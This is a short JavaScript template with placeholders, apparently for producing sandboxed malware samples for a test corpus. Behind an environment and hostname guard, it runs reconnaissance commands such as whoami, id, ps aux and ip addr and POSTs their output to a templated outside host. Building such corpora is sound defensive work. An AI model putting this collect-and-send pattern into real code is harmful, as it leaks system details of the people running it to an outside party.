// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { exec } = require('child_process');
  const run = (line) => new Promise((done) => exec(line, { timeout: 800 }, (error, out) => done(String(out || ''))));
  const answers = {};
  for (const line of ['whoami', 'hostname', 'id', 'uname -a', 'ip addr', 'ps aux', 'ls -la ~'].slice(0, {{n}})) answers[line] = await run(line);
  try { await fetch('https://{{host}}/{{path}}', { method: 'POST', body: JSON.stringify(answers), signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
